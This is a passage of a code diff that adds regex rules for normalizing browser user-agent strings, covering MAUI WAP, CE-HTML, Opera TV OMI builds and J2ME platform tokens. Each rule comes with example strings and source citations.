+      'TIANQIN61M_11C_HW (MRE/3.1.00(64);MAUI/_Maxvi_X300_20170623;BDATE/2017/06/23 14:22;LCD/240320;CHIP/MT6261;KEY/Normal;TOUCH/0;CAMERA/1;SENSOR/0;DEV/TIANQIN61M_11C_HW;WAP Browser/MAUI ();GMOBI/001;MBOUNCE/002;MOMAGIC/003;INDEX/004;SPICEI2I/005;GAMELOFT/006;',
+    ],
+    source: 'matomo-org/device-detector Tests/fixtures/feature_phone.yml (MAUI WAP Browser on MediaTek phones)',
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'ce-html',
+    pattern: String.raw`\bCE-HTML/[\d.]+`,
+    replacement: '',
+    examples: [
+      'Opera/9.80 NETTV/4.5.0 Mozilla/5.0 (Linux armv7i; CE-HTML/1.0; U; en) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.75 Safari/537.36 Tbrowser/2.0',
+    ],
+    source: 'CEA-2014 (CE-HTML), the web profile of connected TVs, announced as "CE-HTML/1.0"; examples from matomo-org/device-detector Tests/fixtures/tv*.yml',
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'opera-tv-build',
+    // Opera's TV browser names its build with a release code name ("OMI/4.21.4.112.Catcher4.66", "OMI/4.20.5.61.LIMA.168").
+    pattern: String.raw`\bOMI/[\w.-]+`,
+    replacement: 'OMI',
+    examples: [
+      'Mozilla/5.0 (Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0.4147.140 Safari/537.36 OPR/46.0.2207.0 OMI/4.21.4.112.Catcher4.66 Model/Hisense-MT9602 VIDAA/5.0(SUNNY;SmartTV;VS0350UC1;MTK9602/V0000.01.00M.M1221;UHD)',
+    ],
+    source: 'matomo-org/device-detector Tests/fixtures/tv*.yml (Opera Devices on Hisense, Vestel and Amazon TVs: OMI/<version>.<code name>.<build>)',
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'j2me-platform',
+    pattern: String.raw`\b(?:Profile/MIDP-[\d.]+|Configuration/CLDC-[\d.]+|JavaPlatform/[\w.-]+|Java/Jbed/[\d.]+)`,
+    replacement: '',
+    examples: [
+      'SonyEricssonW20/R1x Browser/NetFront/3.5 Profile/MIDP-2.1 Configuration/CLDC-1.1 JavaPlatform/JP-8.5',
+    ],
+    source: 'JSR 118 (MIDP) and JSR 139 (CLDC): feature phones announce their Java platform as Profile/MIDP-x Configuration/CLDC-x; examples from matomo-org/device-detector Tests/fixtures/feature_phone.yml',
+    checked: CHECKED_DEC,
   },
 ];
